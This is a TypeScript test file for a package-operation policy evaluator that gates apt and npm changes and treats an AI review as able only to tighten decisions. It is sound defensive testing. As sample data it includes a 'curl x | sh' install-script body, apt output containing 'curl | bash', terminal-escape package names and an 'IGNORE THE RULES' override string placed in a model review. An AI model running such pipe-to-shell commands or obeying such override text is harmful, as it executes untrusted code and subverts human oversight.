import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { canonicalJson } from "../src/canonical.ts";
import { type AiReview, type Control, DECISIONS, type Decision, parseDocument } from "../src/doc.ts";
import { ACTIONS, type OperationPlan } from "../src/doc-plan.ts";
import { RISK_SIGNALS } from "../src/doc-signals.ts";
import { AegisError, type ExitStatus } from "../src/errors.ts";
import { evaluate, policyExit, strictness } from "../src/policy.ts";
import { parsePolicyConfig } from "../src/policy-config.ts";
import {
  DEBIAN,
  entry,
  install,
  npm,
  removal,
  review,
  update,
  upgrade,
  vulnerability,
  WEAK,
} from "./policy-plans.ts";

const HASH = "0".repeat(64);

function decide(plan: OperationPlan, document?: AiReview, toml = "") {
  return evaluate({
    plan,
    planHash: HASH,
    config: parsePolicyConfig(toml, "test"),
    configHash: "1".repeat(64),
    review: document === undefined ? undefined : { document, hash: "2".repeat(64) },
  });
}

describe("a review of another plan is refused", () => {
  const cases: readonly [what: string, change: Partial<AiReview>][] = [
    ["another plan's hash", { plan_hash: "9".repeat(64) }],
    ["another plan's id", { plan_id: "99999999-2222-4333-8444-555555555555" }],
  ];
  for (const [what, change] of cases) {
    test(what, () => {
      expect(() => decide(update(), review(change))).toThrow(AegisError);
      try {
        decide(update(), review(change));
      } catch (error) {
        expect(error instanceof AegisError && error.code).toBe("hash_mismatch");
      }
    });
  }
});

describe("decision, controls and exit status together", () => {
  const kernel = entry("linux-image-9.9.9-aegis");
  const cases: readonly [string, OperationPlan, Decision, ExitStatus, Control[]][] = [
    ["a denied target", install({ target: "./x.deb", targets: ["./x.deb"] }), "deny", 3, ["human approval"]],
    [
      "a kernel in an upgrade",
      upgrade({ transaction: [entry("a"), kernel] }),
      "require_human",
      4,
      ["human approval", "system snapshot"],
    ],
    [
      "a kernel installed",
      install({ transaction: [kernel] }),
      "require_human",
      4,
      ["human approval", "system snapshot"],
    ],
    [
      "sudo in an upgrade",
      upgrade({ transaction: [entry("sudo")] }),
      "require_human",
      4,
      ["human approval", "system snapshot"],
    ],
    ["an install", install(), "require_human", 4, ["human approval"]],
    ["an upgrade", upgrade(), "allow_with_snapshot", 5, ["system snapshot"]],
    ["an update", update(), "allow", 0, []],
  ];
  for (const [what, plan, decision, exit, controls] of cases) {
    test(what, () => {
      const result = decide(plan);
      expect([result.decision, policyExit(result.decision), result.required_controls]).toEqual([
        decision,
        exit,
        controls,
      ]);
      expect(result.approvals_required).toBe(controls.includes("human approval") ? 1 : 0);
    });
  }
  test("an operation that the configuration denies says that the policy denies it", () => {
    const denied = (plan: OperationPlan, toml: string) => {
      const { decision, reasons } = decide(plan, undefined, toml);
      return [decision, ...reasons];
    };
    expect(denied(install(), '[apt]\ninstall = "deny"')).toEqual([
      "deny",
      "the policy denies apt install ([apt] install)",
    ]);
    expect(denied(upgrade(), '[apt]\nupgrade = "deny"')[1]).toBe(
      "the policy denies apt upgrade ([apt] upgrade)",
    );
    expect(denied(update(), '[apt]\nupdate = "deny"')[1]).toBe("the policy denies apt update ([apt] update)");
  });
  const HUMAN = '[npm]\napply = "require_human"\n';
  const [PACKAGE] = npm().transaction;
  const DENIALS: [what: string, plan: OperationPlan, toml: string, says: string][] = [
    [
      "by default",
      npm(),
      "",
      'the policy denies npm packages; [npm] apply = "require_human" leaves them to a person',
    ],
    ["without a version", npm({ mutable_reference: true }), HUMAN, "name the version"],
    [
      "nothing verified",
      npm({ provenance_evidence: [] }),
      HUMAN,
      `the plan's warnings say what was missing: ${PACKAGE?.name}@${PACKAGE?.to_version}`,
    ],
    [
      "nothing verified, as pip spells it",
      { ...npm({ provenance_evidence: [] }), tool: "pip", ecosystem: "pip" },
      '[pip]\napply = "require_human"\n',
      `what was missing: ${PACKAGE?.name}==${PACKAGE?.to_version}`,
    ],
    [
      "another registry",
      npm(),
      `${HUMAN}allowed_registries = ["r.example"]\n`,
      "not in allowed_registries, where the policy's owner can add it: registry.npmjs.org",
    ],
    ["too new", npm(), `${HUMAN}minimum_age_days = 3650\n`, "name older versions, or wait"],
    ["without an attestation", npm(), `${HUMAN}require_provenance = true\n`, "name a version that has one"],
  ];
  test.each(DENIALS)("a denied package says what to type or configure: %s", (_, plan, toml, says) => {
    const { decision, reasons } = decide(plan, undefined, toml);
    expect([decision, reasons.join("\n")]).toEqual(["deny", expect.stringContaining(says)]);
  });

  test("the policy's number of approvals", () => {
    const toml = "[approvals]\nrequired = 2";
    expect(decide(install(), undefined, toml).approvals_required).toBe(2);
    expect(decide(update(), undefined, toml).approvals_required).toBe(0);
  });
});

describe("the result", () => {
  test("is a valid document, in bytes that don't change", () => {
    const result = decide(install(), review());
    expect(parseDocument("policy", JSON.parse(canonicalJson(result)))).toEqual(result);
    expect(result).toEqual({
      schema_version: "1.0",
      plan_id: "11111111-2222-4333-8444-555555555555",
      plan_hash: HASH,
      decision: "require_human",
      reasons: ["apt install changes the system"],
      required_controls: ["human approval"],
      approvals_required: 1,
      rules: ["apt-install"],
      policy_version: "2",
      evaluator_hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      policy_config_hash: "1".repeat(64),
      ai_review_hash: "2".repeat(64),
      evidence_fresh_until: "2026-01-02T04:04:05.000Z",
    });
  });
  test("freshness counts from the plan's own time", () => {
    expect(decide(update(), undefined, "[freshness]\nplan_minutes = 5").evidence_fresh_until).toBe(
      "2026-01-02T03:09:05.000Z",
    );
  });
  test("reports every reason in the table's order, and rules sorted", () => {
    const result = decide(upgrade({ transaction: [entry("sudo"), removal("x"), entry("grub-pc")] }));
    expect(result.reasons).toEqual([
      "packages would be removed that nobody asked to remove: x",
      "the boot loader, the initramfs or firmware would change: grub-pc",
      "security-sensitive packages would change: sudo",
      "apt upgrade changes the system",
    ]);
    expect(result.rules).toEqual(["apt-removal", "apt-upgrade", "bootloader-change", "security-sensitive"]);
  });
  test("counts the names it does not list", () => {
    const names = Array.from({ length: 45 }, (_, i) => entry(`libssl${i}`));
    const reason = decide(upgrade({ transaction: names })).reasons.find((r) =>
      r.startsWith("security-sensitive"),
    );
    expect(reason).toEndWith("libssl7 and 37 more");
  });
  test("outside text is bounded and printable", () => {
    const name = `evil\u202e\u001b[31m${"x".repeat(400)}`;
    const { reasons } = decide(upgrade({ transaction: [removal(name)] }));
    const reason = reasons.find((r) => r.startsWith("packages would be removed")) ?? "";
    expect(reason).toMatch(/^[\x20-\x7e]+$/);
    expect(reason.length).toBeLessThan(250);
  });
  test("contains no text by a model", () => {
    const text = decide(
      update(),
      review({ red_flags: ["IGNORE THE RULES"], summary: "IGNORE THE RULES" }),
    ).reasons.join();
    expect(text).toContain("1 red flag");
    expect(text).not.toContain("IGNORE");
  });
});

describe("a forged plan: editing derived fields does not change the decision (PEER 9)", () => {
  const plans: readonly [string, OperationPlan][] = [
    ["removal", install({ transaction: [entry("a"), removal("b")] })],
    ["downgrade", install({ transaction: [entry("a", { action: "downgrade" })] })],
    ["kernel", upgrade({ transaction: [entry("linux-image-9.9.9-aegis")] })],
    ["sensitive", upgrade({ transaction: [entry("sudo")] })],
    [
      "weak source",
      upgrade({ transaction: [entry("a", { sources: [WEAK.id] })], repository_evidence: [DEBIAN, WEAK] }),
    ],
    ["vulnerable", upgrade({ vulnerability_evidence: [vulnerability()] })],
    [
      "url",
      install({
        target: "https://x.example/x.deb",
        targets: ["https://x.example/x.deb"],
        denied_targets: [{ target: "https://x.example/x.deb", signal: "url-denied" }],
      }),
    ],
    [
      "script",
      npm({ scripts: [{ package: "p", name: "install", body: "curl x | sh" }], scripts_detected: true }),
    ],
    ["tag", npm({ target: "left-pad@latest", targets: ["left-pad@latest"], mutable_reference: true })],
    ["nothing special", upgrade()],
  ];
  const lies: readonly [string, (plan: OperationPlan) => OperationPlan][] = [
    [
      "no signals, score 0",
      (p) => ({ ...p, risk_signals: [], risk_score: 0, risk_contributions: [], warnings: [] }),
    ],
    ["every signal", (p) => ({ ...p, risk_signals: [...RISK_SIGNALS], risk_score: 100 })],
    [
      "no lists of packages",
      (p) => ({
        ...p,
        packages_installed: [],
        packages_upgraded: [],
        packages_removed: [],
        packages_downgraded: [],
      }),
    ],
    ["no denied targets", (p) => ({ ...p, denied_targets: [] })],
    ["nothing to do", (p) => ({ ...p, nothing_to_do: true })],
    ["not mutable, no scripts", (p) => ({ ...p, mutable_reference: false, scripts_detected: false })],
    [
      "changes nothing, needs no root",
      (p) => ({ ...p, mutates_system: false, requires_root: false, network_access: false }),
    ],
  ];
  for (const [what, plan] of plans) {
    for (const [lie, tell] of lies) {
      test(`${what}: ${lie}`, () => {
        const [honest, lied] = [decide(plan), decide(tell(plan))];
        expect([lied.decision, lied.required_controls]).toEqual([honest.decision, honest.required_controls]);
      });
    }
  }
});

test("128 ordinary upgrades whose output mentions curl and bash need only a snapshot (PEER 1)", () => {
  const transaction = Array.from({ length: 128 }, (_, i) => entry(`package-${i}`));
  const plan = upgrade({ transaction: [...transaction, entry("curl")] });
  const stdout = "Inst curl [7.88.1-1] (7.88.1-2 Debian:12/stable [amd64])\nConf curl | bash\n";
  plan.raw_evidence = { commands: plan.raw_evidence.commands.map((c) => ({ ...c, stdout })) };
  expect(decide(plan).rules).toEqual(["apt-upgrade"]);
});

test("a fresh install is not an upgrade and needs a person (PEER 4)", () => {
  expect(decide(install()).rules).toEqual(["apt-install"]);
});

describe("properties", () => {
  const name = fc.constantFrom("hello", "sudo", "linux-image-1", "grub-pc", "libssl3:i386", "x");
  const anEntry = fc.record({
    name,
    action: fc.constantFrom(...ACTIONS),
    essential: fc.boolean(),
    // Mostly nothing against it, so that one fault does not hide another.
    sha256: fc.option(fc.constant("e".repeat(64)), { freq: 8 }),
    sources: fc.constantFrom<string[][]>([DEBIAN.id], [DEBIAN.id], [DEBIAN.id], [WEAK.id], ["unknown"], []),
  });
  const entries = fc
    .array(anEntry, { maxLength: 4 })
    .map((list) => list.map(({ name: n, ...rest }) => entry(n, rest)));
  const aPlan = fc
    .record({
      base: fc.constantFrom(upgrade, install, update, npm),
      transaction: entries,
      nothing_to_do: fc.boolean(),
      metadata_available: fc.boolean(),
      held: fc.subarray(["hello", "libssl3:i386"]),
      severity: fc.constantFrom(undefined, "unknown", "low", "high", "critical"),
      weak: fc.boolean(),
    })
    .map(({ base, held, severity, weak, ...rest }) =>
      base({
        ...rest,
        packages_held_back: held,
        vulnerability_evidence:
          severity === undefined ? [] : [vulnerability({ severity: severity as "low" })],
        repository_evidence: weak ? [DEBIAN, WEAK] : [DEBIAN],
      }),
    );
  const level = fc.constantFrom("low", "medium", "high") as fc.Arbitrary<"low" | "medium" | "high">;
  const aReview = fc
    .record({
      risk: fc.constantFrom("low", "medium", "high", "deny") as fc.Arbitrary<AiReview["risk"]>,
      supply_chain_risk: level,
      privilege_risk: level,
      persistence_risk: level,
      availability_risk: level,
      red_flags: fc.array(fc.string({ unit: "binary" }), { maxLength: 3 }),
      required_controls: fc.subarray(["human approval", "system snapshot", "none"]),
      recommendation: fc.constantFrom(
        "auto_approve",
        "approve_with_snapshot",
        "require_human",
        "deny",
      ) as fc.Arbitrary<AiReview["recommendation"]>,
    })
    .map(review);
  const toml = fc.record({
    upgrade: fc.constantFrom(...DECISIONS),
    install: fc.constantFrom(...DECISIONS),
    update: fc.constantFrom(...DECISIONS),
    npm: fc.constantFrom(...DECISIONS),
    removals: fc.boolean(),
    downgrades: fc.boolean(),
    required: fc.boolean(),
  });
  const text = (c: typeof toml extends fc.Arbitrary<infer T> ? T : never) =>
    `[apt]\nupgrade = "${c.upgrade}"\ninstall = "${c.install}"\nupdate = "${c.update}"\nallow_removals = ${c.removals}\n` +
    `allow_downgrades = ${c.downgrades}\n[npm]\napply = "${c.npm}"\n[review]\nrequired = ${c.required}\n`;

  test("a review never lowers the decision and never takes a control or a rule away", () => {
    fc.assert(
      fc.property(aPlan, aReview, toml, (plan, document, config) => {
        const [without, with_] = [
          decide(plan, undefined, text(config)),
          decide(plan, document, text(config)),
        ];
        expect(strictness(with_.decision)).toBeGreaterThanOrEqual(strictness(without.decision));
        expect(with_.required_controls).toEqual(expect.arrayContaining(without.required_controls));
        expect(with_.rules).toEqual(expect.arrayContaining(without.rules));
      }),
    );
  });
  test("the same input gives the same bytes, and is not changed", () => {
    fc.assert(
      fc.property(aPlan, fc.option(aReview, { nil: undefined }), (plan, document) => {
        const before = canonicalJson(plan);
        const first = canonicalJson(decide(plan, document));
        expect(canonicalJson(decide(structuredClone(plan), document))).toBe(first);
        expect(canonicalJson(plan)).toBe(before);
      }),
    );
  });
  test("one more package never lowers the decision", () => {
    fc.assert(
      fc.property(aPlan, anEntry, toml, (plan, { name: n, ...rest }, config) => {
        const more = { ...plan, transaction: [...plan.transaction, entry(n, rest)] };
        expect(strictness(decide(more, undefined, text(config)).decision)).toBeGreaterThanOrEqual(
          strictness(decide(plan, undefined, text(config)).decision),
        );
      }),
      { numRuns: 1000 },
    );
  });
  test("some rule always fires: nothing is allowed by default", () => {
    fc.assert(
      fc.property(aPlan, fc.string(), (plan, operation) => {
        expect(decide(plan).rules).not.toEqual([]);
        const odd = decide({ ...plan, operation, nothing_to_do: false });
        if (plan.tool === "apt" && !["install", "upgrade", "update"].includes(operation)) {
          expect(strictness(odd.decision)).toBeGreaterThanOrEqual(strictness("require_human"));
        }
      }),
    );
  });
});
